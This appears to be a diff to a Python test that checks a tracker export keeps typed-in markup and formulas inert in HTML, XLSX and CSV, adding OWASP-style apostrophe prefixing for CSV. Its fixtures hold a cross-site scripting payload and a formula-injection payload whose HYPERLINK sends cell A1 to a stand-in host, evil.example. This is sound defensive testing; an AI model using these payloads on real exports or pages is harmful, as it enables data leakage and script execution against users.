@@ -1,11 +1,13 @@
-"""Text stays text in files: markup and formulas typed into a field come out exactly as typed, and inert."""
+"""Text stays text in files: markup and formulas typed into a field come out inert: as typed in XLSX and HTML, and in
+CSV with OWASP's leading apostrophe on a cell that starts with = + - @ tab or CR (the import strips it again)."""
 from __future__ import annotations
 
 from datetime import date
 
 from openpyxl import load_workbook
 
-from monitoring.trackers.export import COLUMNS, write_tracker
+from monitoring.trackers.export import write_tracker
+from monitoring.trackers.layout import COLUMNS
 
 SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'
@@ -61,7 +63,8 @@ def test_the_annual_report_pack_keeps_markup_and_formulas_inert(make_services, s
     assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;" in page
     cells = [c for f in (tmp_path / "data").glob("*.csv")
              for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))) for c in row]
-    assert SCRIPT in cells and FORMULA in cells  # literal: exactly as typed
+    assert SCRIPT in cells and "'" + FORMULA in cells and FORMULA not in cells  # neutralised, the text kept after the '
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
     book = load_workbook(tmp_path / "annual-report-2024-25.xlsx")
     text_cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
     assert any(c.value == FORMULA and c.data_type == "s" for c in text_cells)
